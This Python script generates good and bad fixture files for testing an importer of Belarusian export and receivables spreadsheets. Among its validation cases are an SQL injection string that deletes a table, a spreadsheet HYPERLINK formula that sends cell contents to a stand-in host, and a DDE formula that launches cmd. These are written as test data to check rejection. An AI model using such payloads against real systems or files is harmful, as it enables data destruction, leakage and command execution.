"""Writes the files of this folder: good files as they really arrive and one bad file per
kind of problem. They refer to the test database (tests/conftest.py: seed 7), e.g. MAZ
has УНП 142005465 there. Run from the project root:
``.venv/bin/python tests/import_files/make_corpus.py``; EXPECTED below is what
tests/test_import_corpus.py checks each bad file against."""

from __future__ import annotations

from pathlib import Path

HERE = Path(__file__).resolve().parent
MAZ, BELAZ = "142005465", "660091504"
NBSP = "\u00a0"

# bad file → (reason id, column) the report must name
EXPECTED = {
    "bad_missing_column.csv": ("column_missing", "quantity"),
    "bad_not_a_number.csv": ("not_a_number", "value_usd"),
    "bad_negative.csv": ("negative", "quantity"),
    "bad_month_13.csv": ("not_a_month", "month"),
    "bad_future_month.csv": ("future_month", "month"),
    "bad_unknown_enterprise.csv": ("unknown_enterprise", "enterprise"),
    "bad_unknown_heading.csv": ("unknown_heading", "hs_heading"),
    "bad_ambiguous_heading.csv": ("ambiguous_heading", "hs_heading"),
    "bad_unknown_region.csv": ("unknown_region", "region"),
    "bad_duplicate_key.csv": ("duplicate_key", ""),
    "bad_sql_injection.csv": ("unknown_region", "region"),
    "bad_formula_text.csv": ("formula", "enterprise"),
    "bad_formula_cell.xlsx": ("formula", "value_usd"),
    "bad_formula_name.csv": ("formula", "name_ru"),
    "bad_empty.csv": ("file_empty", ""),
    "bad_zero_bytes.csv": ("file_empty", ""),
    "bad_no_header.csv": ("no_header", ""),
    "bad_kind_unknown.csv": ("kind_unknown", ""),
    "bad_file_type.pdf": ("file_type", ""),
    "bad_corrupt.xlsx": ("file_unreadable", ""),
    "bad_ragged.csv": ("file_unreadable", ""),
    "bad_overdue_above_total.csv": ("overdue_above_total", "overdue_usd"),
    "bad_buckets.csv": ("buckets_mismatch", "overdue_usd"),
    "bad_causes.csv": ("causes_mismatch", "overdue_usd"),
    "bad_unknown_cause.csv": ("unknown_cause", "main_cause"),
    "bad_unknown_concern.csv": ("unknown_concern", "concern"),
    "bad_concern_and_oblast.csv": ("concern_or_oblast", "concern"),
    "bad_growth.csv": ("growth_too_low", "growth_pct"),
    "bad_year.csv": ("not_a_year", "year"),
    "bad_unp.csv": ("bad_unp", "unp"),
    "bad_flag.csv": ("bad_flag", "is_industrial"),
    "bad_id_taken.csv": ("id_taken", "enterprise_id"),
    "bad_unknown_subject.csv": ("unknown_subject", "subject"),
    "bad_subject_kind.csv": ("unknown_kind", "kind"),
    "bad_missing_value.csv": ("value_missing", "region"),
}

EXPORTS_HEAD = "month;enterprise;hs_heading;region;value_usd;quantity"
RECEIVABLES_HEAD = ("month;enterprise;region;total_usd;overdue_usd;overdue_upto_30_usd;"
                    "overdue_31_90_usd;overdue_91_180_usd;overdue_over_180_usd")


def write(name: str, text: str, encoding: str = "utf-8") -> None:
    (HERE / name).write_bytes(text.encode(encoding))


def exports_csv(*rows: str, head: str = EXPORTS_HEAD) -> str:
    return "\n".join([head, *rows]) + "\n"


def good_files() -> None:
    # Russian-locale Excel: Windows-1251, semicolons, decimal commas, spaces (also
    # non-breaking) as thousands separators, months as 09.2026, regions by Russian name
    write("good_exports_cp1251.csv", exports_csv(
        f"09.2026;{MAZ};8704;Москва;1{NBSP}250{NBSP}000,50;25",
        f"09.2026;{MAZ};87.01;Санкт-Петербург;310 000,00;7",
        "09.2026;BelAZ;8704;RU-KEM;2 400 000;3,5",
        "", ""), encoding="cp1251")
    # UTF-8 with BOM, commas, dates for months, quoted decimal commas, short region code
    write("good_exports_bom_comma.csv", "\ufeff" + "\n".join([
        "month,enterprise,hs_heading,region,value_usd,quantity",
        f'2026-09-30,{MAZ},8704,MOW,"1 250 000,50",25',
        f'2026-09-30,{MAZ},8701,SPE,"310000,00",7',
        f'2026-09-30,{BELAZ},8704,RU-KEM,2400000,"3,5"']) + "\n")
    # a title block above the header, a named sheet, number and date cells, empty tail
    from datetime import datetime

    from openpyxl import Workbook
    wb = Workbook()
    ws = wb.active
    ws.title = "Отчёт"
    ws.append(["Экспорт в Российскую Федерацию, сентябрь 2026"])
    ws.append(["Концерн: МАЗ / БелАЗ"])
    ws.append([])
    ws.append(["Месяц", "УНП", "ТН ВЭД", "Регион", "value_usd", "Количество"])
    ws.append([datetime(2026, 9, 1), int(MAZ), 8704, "Москва", 1250000.5, 25])
    ws.append([datetime(2026, 9, 1), int(MAZ), 8701, "Saint Petersburg", 310000, 7])
    ws.append([datetime(2026, 9, 1), "BelAZ", 8704, "Кемеровская область — Кузбасс", "2 400 000", 3.5])
    for _ in range(5):
        ws.append([None] * 6)
    wb.save(HERE / "good_exports_title_block.xlsx")
    # a new enterprise and its exports in one import
    write("good_enterprises.csv", "\n".join([
        "unp;name_ru;name_en;concern;oblast;city;is_industrial;is_major",
        "190000001;ООО «Новый экспортёр»;Novy Exporter LLC;Концерн «Беллегпром»;"
        "Минская область;Borisov;да;нет"]) + "\n")
    write("good_exports_new_enterprise.csv", exports_csv(
        "2026-10;190000001;6203;RU-MOW;50 000;1 200",
        "2026-10;Novy Exporter LLC;6204;RU-SPE;20 000,5;600"))
    write("good_receivables.csv", "\n".join([
        RECEIVABLES_HEAD + ";main_cause;cause_payment_delay_by_buyer_usd;"
        "cause_consignment_terms_usd",
        f"2026-10;{MAZ};RU-MOW;5 000 000;400 000;100 000;80 000;70 000;150 000;;"
        "250 000;150 000"]) + "\n")
    write("good_targets.csv", "\n".join([
        "year;concern;oblast;target_usd;growth_pct",
        "2026;belaz;;1 500 000 000;7,5",
        "2026;;BY-MI;4 000 000 000;5"]) + "\n")
    write("good_subjects.csv", "\n".join([
        "name;kind;region;concern",
        "ООО «Торговый дом «Пример-Казань»»;trading_house;RU-TA;mtz"]) + "\n")
    write("good_stock.csv", "\n".join([
        "month;subject;enterprise;hs_heading;quantity;value_usd",
        f"2026-10;1;{MAZ};8704;40;2 000 000"]) + "\n")


def bad_files() -> None:
    ok = f"2026-09;{MAZ};8704;RU-MOW;1000;1"
    write("bad_missing_column.csv", exports_csv(
        f"2026-09;{MAZ};8704;RU-MOW;1000", head="month;enterprise;hs_heading;region;value_usd"))
    write("bad_not_a_number.csv", exports_csv(ok, f"2026-09;{MAZ};8701;RU-MOW;12abc;1"))
    write("bad_negative.csv", exports_csv(ok, f"2026-09;{MAZ};8701;RU-MOW;1000;-5"))
    write("bad_month_13.csv", exports_csv(ok, f"13.2026;{MAZ};8701;RU-MOW;1000;1"))
    write("bad_future_month.csv", exports_csv(ok, f"2030-01;{MAZ};8701;RU-MOW;1000;1"))
    write("bad_unknown_enterprise.csv", exports_csv(ok, "2026-09;999999999;8701;RU-MOW;1;1"))
    write("bad_unknown_heading.csv", exports_csv(ok, f"2026-09;{MAZ};9999;RU-MOW;1;1"))
    write("bad_ambiguous_heading.csv", exports_csv(ok, f"2026-09;{MAZ};84.1;RU-MOW;1;1"))
    write("bad_unknown_region.csv", exports_csv(ok, f"2026-09;{MAZ};8701;RU-XXX;1;1"))
    write("bad_duplicate_key.csv", exports_csv(ok, f"09.2026;{MAZ};8704;Москва;5;1"))
    write("bad_sql_injection.csv", exports_csv(
        ok, f"2026-09;{MAZ};8701;\"RU-MOW'); DELETE FROM exports; --\";1;1"))
    write("bad_formula_text.csv", exports_csv(
        ok, '2026-09;=HYPERLINK("http://x.example/?"&A1);8701;RU-MOW;1;1'))
    write("bad_missing_value.csv", exports_csv(ok, f"2026-09;{MAZ};8701;;1;1"))
    from openpyxl import Workbook
    wb = Workbook()
    ws = wb.active
    ws.append(["month", "enterprise", "hs_heading", "region", "value_usd", "quantity"])
    ws.append(["2026-09", MAZ, "8704", "RU-MOW", "=1000*2", 1])
    wb.save(HERE / "bad_formula_cell.xlsx")
    write("bad_formula_name.csv", "\n".join([
        "unp;name_ru;name_en;concern;oblast;city;is_industrial",
        "190000002;@SUM(1+1)*cmd|' /C calc'!A0;Evil;mtz;BY-HM;Minsk;yes"]) + "\n")
    write("bad_empty.csv", EXPORTS_HEAD + "\n;;;;;\n\n")
    write("bad_zero_bytes.csv", "")
    write("bad_no_header.csv", "this is not a template\njust some text\n1;2;3\n")
    write("bad_kind_unknown.csv", "unp;year;colour\n190000001;2026;red\n")
    write("bad_file_type.pdf", "%PDF-1.4 not really\n")
    write("bad_corrupt.xlsx", "PK\x03\x04 this is not a workbook")
    write("bad_ragged.csv", exports_csv(ok, f"2026-09;{MAZ};8701;RU-MOW;1;1;surplus;cells"))
    rec_ok = f"2026-10;{MAZ};RU-MOW;5000000;400000;100000;80000;70000;150000"
    write("bad_overdue_above_total.csv", "\n".join([
        RECEIVABLES_HEAD, rec_ok,
        f"2026-10;{MAZ};RU-SPE;300000;400000;100000;80000;70000;150000"]) + "\n")
    write("bad_buckets.csv", "\n".join([
        RECEIVABLES_HEAD, rec_ok,
        f"2026-10;{MAZ};RU-SPE;5000000;400000;100000;80000;70000;100000"]) + "\n")
    write("bad_causes.csv", "\n".join([
        RECEIVABLES_HEAD + ";cause_payment_delay_by_buyer_usd;cause_other_usd",
        rec_ok + ";300000;100000", f"2026-10;{MAZ};RU-SPE;5000000;400000;100000;80000;"
        "70000;150000;300000;1000"]) + "\n")
    write("bad_unknown_cause.csv", "\n".join([
        RECEIVABLES_HEAD + ";main_cause", rec_ok + ";weather"]) + "\n")
    write("bad_unknown_concern.csv", "year;concern;oblast;target_usd;growth_pct\n"
          "2026;belaz;;1000;5\n2026;no-such-concern;;1000;5\n")
    write("bad_concern_and_oblast.csv", "year;concern;oblast;target_usd;growth_pct\n"
          "2026;belaz;BY-MI;1000;5\n")
    write("bad_growth.csv", "year;concern;oblast;target_usd;growth_pct\n"
          "2026;belaz;;1000;-100\n")
    write("bad_year.csv", "year;concern;oblast;target_usd;growth_pct\n"
          "1999;belaz;;1000;5\n")
    ent_head = "enterprise_id;unp;name_ru;name_en;concern;oblast;city;is_industrial"
    write("bad_unp.csv", ent_head + "\n;12345;Имя;Name;mtz;BY-HM;Minsk;yes\n")
    write("bad_flag.csv", ent_head + "\n;190000003;Имя;Name;mtz;BY-HM;Minsk;maybe\n")
    write("bad_id_taken.csv", ent_head + "\n1;190000004;Имя;Name;mtz;BY-HM;Minsk;yes\n")
    write("bad_unknown_subject.csv", "month;subject;enterprise;hs_heading;quantity;value_usd\n"
          f"2026-10;ООО «Нет такого»;{MAZ};8704;1;1\n")
    write("bad_subject_kind.csv", "name;kind;region;concern\n"
          "ООО «Новый склад»;shop;RU-TA;mtz\n")


if __name__ == "__main__":
    good_files()
    bad_files()
    missing = [n for n in EXPECTED if not (HERE / n).exists()]
    assert not missing, missing
    print(f"wrote {len(list(HERE.iterdir())) - 1} files to {HERE}")
